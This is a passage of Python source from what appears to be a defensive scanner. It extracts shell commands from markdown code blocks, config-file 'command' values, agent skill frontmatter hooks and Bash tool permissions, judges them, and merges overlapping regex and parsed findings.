            mm = re.match(r"[ \t]{0,3}>[ \t]?", src[k:])
            if mm:
                k += mm.end()
        n = 0
        while k < len(src) and src[k] == " " and n < indent - (quoted * 2 if quoted else 0):
            k += 1
            n += 1
        pts.append((pos, doc.line_starts[ln] + k))
        piece = src[k:]
        pieces.append(piece)
        pos += len(piece) + 1
    return "\n".join(pieces), OffsetMap(tuple(pts) or ((0, fence.start),))


def _strip_prompts(text: str, console: bool) -> tuple[str, bool]:
    """Keep only prompt lines (``$ cmd``) and their ``\\`` continuations, blanking the rest
    (output) with spaces so offsets stay, when the block is a console transcript (``console``
    fence, or any line starting with ``$ ``)."""
    lines = text.split("\n")
    if not console and not any(re.match(r"^\s*\$ ", ln) for ln in lines):
        return text, False
    out = []
    cont = False
    for ln in lines:
        m = _PROMPT.match(ln)
        if m and (m.group(0).rstrip().endswith(("$", "%", "❯", "›", ">")) or "$" in m.group(0)):
            out.append(" " * m.end() + ln[m.end() :])
            cont = ln.rstrip().endswith("\\")
        elif cont:
            out.append(ln)
            cont = ln.rstrip().endswith("\\")
        else:
            out.append(" " * len(ln))
            cont = False
    return "\n".join(out), True


BANG_KINDS = frozenset({"claude-skill", "claude-command", "claude-agent", "markdown"})
"""File kinds where `` !`cmd` `` and ```` ```! ```` run when invoked (Claude Code skills and commands;
``markdown``: a file whose kind is unknown is given the benefit of the doubt the attacker wants)."""

CONFIG_LANGS = frozenset({"json", "jsonc", "json5", "yaml", "yml", "toml"})
_JSON_COMMAND = re.compile(r'"(?:command|cmd|script|run)"\s*:\s*"((?:\\.|[^"\\\n]){1,4000})"')
_YAML_COMMAND = re.compile(
    r"(?m)^[ \t-]*(?:command|cmd|run)\s*[:=]\s*(?:(['\"])(.{1,4000}?)\1|([^'\"#\n][^\n]{0,4000}))[ \t]*$"
)


_JSON_ESC = {"n": "\n", "t": "\t", "r": "\r", "b": "\b", "f": "\f", "/": "/", "\\": "\\", '"': '"'}


def _json_unescape(raw: str) -> tuple[str, list[int]]:
    """A JSON string body decoded, with the index in ``raw`` each character came from."""
    out: list[str] = []
    idx: list[int] = []
    i = 0
    while i < len(raw):
        c = raw[i]
        if c == "\\" and i + 1 < len(raw):
            e = raw[i + 1]
            if e == "u" and re.fullmatch(r"[0-9a-fA-F]{4}", raw[i + 2 : i + 6]):
                out.append(chr(int(raw[i + 2 : i + 6], 16)))
                idx.append(i)
                i += 6
                continue
            out.append(_JSON_ESC.get(e, e))
            idx.append(i)
            i += 2
            continue
        out.append(c)
        idx.append(i)
        i += 1
    return "".join(out), idx


def _config_commands(body: str, omap: OffsetMap, origin: str) -> list[Finding]:
    """``"command": "…"`` values in a JSON/YAML/TOML sample (a settings.json hook, an MCP server,
    a task): the agent may write that file, and the command then runs by itself. Judged as code."""
    out: list[Finding] = []
    for m in _JSON_COMMAND.finditer(body):
        value, idx = _json_unescape(m.group(1))
        out.extend(command_findings(value, omap.shift(m.start(1)).sub(idx), origin))
    for m in _YAML_COMMAND.finditer(body):
        g = 2 if m.group(2) is not None else 3
        out.extend(command_findings(m.group(g), omap.shift(m.start(g)), origin))
    return out


def looks_like_shell(text: str) -> bool:
    """Whether at least two thirds of the non-empty, non-comment lines of ``text`` start with a
    known command word (after an optional ``$ `` prompt and ``sudo``), or a line has a ``$ ``
    prompt: unlabelled and plain-text fences and indented blocks. (A list of quoted patterns in a
    ``text`` fence, half prose, is not a script.)"""
    n = hit = 0
    for ln in text.split("\n"):
        s = ln.strip()
        if not s or s.startswith("#") or s.startswith("//"):
            continue
        n += 1
        if s.startswith("$ "):
            return True
        first = re.split(r"[\s|;&()<>]", s, maxsplit=1)[0]
        if first == "sudo":
            first = (s.split() + ["", ""])[1]
        if shell.basename(first) in KNOWN_COMMANDS or re.match(r"^[A-Z_][A-Z0-9_]*=", first) or first.startswith("./"):
            hit += 1
        if n >= 40:
            break
    return n > 0 and hit * 3 >= n * 2


def _inline_command(code: str) -> bool:
    s = re.sub(r"^\$\s+", "", code.strip())
    first = re.split(r"[\s|;&()<>]", s, maxsplit=1)[0]
    if first in ("sudo", "env", "nohup", "time"):
        first = (s.split() + ["", ""])[1]
    b = shell.basename(first)
    if b in KNOWN_COMMANDS or first.startswith("./") or (first.startswith("$(") and len(s) > 4):
        # one bare word (`git`, `curl`) is a name, not a command
        return " " in s or "|" in s
    return False


def check(ctx) -> list[Finding]:
    """Find and judge every command of the document (see the module docstring)."""
    doc = ctx.doc
    md = ctx.markdown
    text = doc.text
    out: list[Finding] = []
    fence_spans = []
    for fence in md.fences:
        fence_spans.append((fence.start, fence.end))
        info = fence.info.strip()
        lang = fence.lang.lower()
        body = _fence_body(doc, fence)
        if body is None:
            continue
        body_text, omap = body
        origin = "code"
        if info.startswith("!") and (getattr(ctx, "kind", "") or "") in BANG_KINDS:
            origin = "bang"
            lang = info[1:].strip().split(maxsplit=1)[0].lower() if info[1:].strip() else "bash"
        if lang in PY_LANGS:
            out.extend(command_findings(body_text, omap, origin, "python"))
            continue
        if lang in JS_LANGS:
            out.extend(command_findings(body_text, omap, origin, "javascript"))
            continue
        if lang in CONFIG_LANGS:
            out.extend(_config_commands(body_text, omap, origin))
            continue
        if lang in SHELL_LANGS or origin == "bang" or (lang in PLAIN_LANGS and looks_like_shell(body_text)):
            stripped, _console = _strip_prompts(
                body_text,
                lang in ("console", "shell-session", "shellsession", "terminal", "bash-session", "sh-session"),
            )
            out.extend(command_findings(stripped, omap, origin))
    # indented code blocks and inline code spans
    fence_starts = {a for a, _b in fence_spans}
    bang_kinds = (getattr(ctx, "kind", "") or "") in BANG_KINDS
    for span in md.code:
        if span.start in fence_starts:
            continue
        raw = text[span.start : span.end]
        if raw.startswith("`"):
            n = len(raw) - len(raw.lstrip("`"))
            inner = raw[n : len(raw) - n] if raw.endswith("`" * n) and len(raw) >= 2 * n else raw[n:]
            lead = 1 if inner.startswith(" ") and inner.endswith(" ") and inner.strip() else 0
            code = inner[lead : len(inner) - lead] if lead else inner
            base = span.start + n + lead
            bang = span.start > 0 and text[span.start - 1] == "!" and bang_kinds
            if "\n" in code or "\r" in code:
                code = re.sub(r"\r\n|\r|\n", " ", code)
            if bang or _inline_command(code):
                out.extend(command_findings(code, OffsetMap.at(base), "bang" if bang else "code"))
        else:
            if looks_like_shell(raw):
                lines = raw.split("\n")
                pts, pos, pieces = [], 0, []
                off = span.start
                for ln in lines:
                    k = min(len(ln) - len(ln.lstrip(" ")), 4)
                    pts.append((pos, off + k))
                    pieces.append(ln[k:])
                    pos += len(ln) - k + 1
                    off += len(ln) + 1
                stripped, _c = _strip_prompts("\n".join(pieces), False)
                out.extend(command_findings(stripped, OffsetMap(tuple(pts)), "code"))
    out.extend(_frontmatter_findings(ctx))
    return out


# --------------------------------------------------------------------------------------------
# Frontmatter: hooks, command values, allowed-tools
# --------------------------------------------------------------------------------------------

_BASH_PERM = re.compile(r"\bBash\(([^()]*(?:\([^()]*\)[^()]*)*)\)")


def _scalar_map(fm_text: str, base: int, node) -> tuple[str, OffsetMap]:
    """The value of a YAML scalar node and the map of its characters to document offsets: exact
    for plain and quoted single-line scalars without escapes and for block scalars; else every
    character maps inside the scalar's span."""
    value = str(node.value)
    a, b = node.start_mark.index, node.end_mark.index
    raw = fm_text[a:b]
    style = node.style
    if style is None and raw == value:
        return value, OffsetMap.at(base + a)
    if style in ("'", '"') and raw[1:-1] == value:
        return value, OffsetMap.at(base + a + 1)
    lines = value.split("\n")
    pts = []
    pos = 0
    cursor = 0
    ok = True
    for ln in lines:
        if ln:
            k = raw.find(ln, cursor)
            if k < 0:
                ok = False
                break
            pts.append((pos, base + a + k))
            cursor = k + len(ln)
        else:
            pts.append((pos, base + a + cursor))
        pos += len(ln) + 1
    if ok and pts:
        return value, OffsetMap(tuple(pts))
    return value, OffsetMap(((0, base + a),), limit=(base + a, max(base + a, base + b - 1)))


def _frontmatter_findings(ctx) -> list[Finding]:
    fm = ctx.parsed_frontmatter()
    if fm.span is None:
        return []
    text = ctx.doc.text
    fm_text = text[fm.span.yaml_start : fm.span.yaml_end]
    base = fm.span.yaml_start
    try:
        from ruamel.yaml import YAML
        from ruamel.yaml.nodes import MappingNode, ScalarNode, SequenceNode

        node = YAML(typ="safe", pure=True).compose(fm_text)
    except Exception:  # noqa: BLE001 - invalid YAML: the loose lines are still searched below
        return _loose_frontmatter(fm_text, base)
    out: list[Finding] = []

    def walk(n, path: tuple[str, ...]):
        if isinstance(n, MappingNode):
            pairs = {str(k.value): v for k, v in n.value if isinstance(k, ScalarNode)}
            for k, v in n.value:
                key = str(k.value) if isinstance(k, ScalarNode) else ""
                if key == "command" and isinstance(v, ScalarNode) and str(v.value).strip():
                    origin = "hook" if "hooks" in path else "config"
                    value, omap = _scalar_map(fm_text, base, v)
                    args = pairs.get("args")
                    if isinstance(args, SequenceNode) and args.value:
                        out.extend(_argv_findings(fm_text, base, v, args, origin))
                    else:
                        out.extend(command_findings(value, omap, origin))
                elif key.lower() in ("allowed-tools", "allowed_tools", "tools"):
                    items = v.value if isinstance(v, SequenceNode) else [v]
                    for it in items:
                        if isinstance(it, ScalarNode):
                            value, omap = _scalar_map(fm_text, base, it)
                            for m in _BASH_PERM.finditer(value):
                                inner = m.group(1)
                                cut = inner[:-2] if inner.endswith(":*") else inner
                                out.extend(command_findings(cut, omap.shift(m.start(1)), "permission"))
                else:
                    walk(v, path + (key,))
        elif isinstance(n, SequenceNode):
            for it in n.value:
                walk(it, path)

    walk(node, ())
    return out


def _argv_findings(fm_text, base, cmd_node, args_node, origin) -> list[Finding]:
    """``command: bash`` + ``args: ["-c", "…"]`` (MCP servers): the argv is exec'd without a
    shell, so it is judged as one command built from the scalars, each at its own offsets."""
    from ruamel.yaml.nodes import ScalarNode

    words = []
    for n in [cmd_node, *args_node.value]:
        if not isinstance(n, ScalarNode):
            continue
        value, omap = _scalar_map(fm_text, base, n)
        words.append(Word(value, value, omap(0), omap(max(len(value) - 1, 0)) + 1, omap))
    if not words:
        return []
    script = shell.script_from_argv(words)
    return _finalize(judge_script(script, origin), origin)


def _loose_frontmatter(fm_text: str, base: int) -> list[Finding]:
    out = []
    for m in re.finditer(r"(?m)^[ \t-]*command:[ \t]*(['\"]?)(.+?)\1[ \t]*$", fm_text):
        out.extend(command_findings(m.group(2), base + m.start(2), "hook"))
    return out


# --------------------------------------------------------------------------------------------
# One finding per hit: the parsed rules supersede overlapping regex findings
# --------------------------------------------------------------------------------------------


def supersede(findings: list[Finding], rules) -> list[Finding]:
    """One finding per hit. A parsed finding whose rule lists, in ``supersedes``, the rule of an
    overlapping regex finding is merged into that finding: the regex finding keeps its id and
    range (stable ids: users' configuration and suppressions keep working), takes the higher of
    the two severities (a parsed dangerous command is never lowered by the regex rule's context
    judgement), gets the parsed judgement appended to its message and recorded in
    ``data["parsed"]``; the parsed finding is dropped. Parsed findings without an overlapping
    regex finding are kept as they are: they are what the regex rules miss."""
    cover: dict[str, frozenset[str]] = {}
    for f in findings:
        if f.data.get("parsed") is True and f.rule not in cover:
            r = rules.get(f.rule) if rules is not None else None
            cover[f.rule] = frozenset((r.raw.get("supersedes") or ()) if r is not None else ())
    if not cover:
        return findings
    regex_hits = sorted(
        (i for i, f in enumerate(findings) if f.data.get("parsed") is not True),
        key=lambda i: (findings[i].start, findings[i].end),
    )
    merged: dict[int, Finding] = {}
    drop: set[int] = set()
    for k, p in enumerate(findings):
        if p.data.get("parsed") is not True or not cover.get(p.rule):
            continue
        for i in regex_hits:
            f = merged.get(i, findings[i])
            if f.rule in cover[p.rule] and f.start < max(p.end, p.start + 1) and p.start < max(f.end, f.start + 1):
                info = list(f.data.get("parsed_facts", ())) + [
                    {"rule": p.rule, "message": p.message, "severity": p.severity.label}
                ]
                merged[i] = f.with_(
                    severity=min(f.severity, p.severity),
                    message=f"{f.message} (parsed as {p.rule}: {p.message})",
                    data={**f.data, "parsed_facts": info},
                )
                drop.add(k)
                break
    return [merged.get(i, f) for i, f in enumerate(findings) if i not in drop]
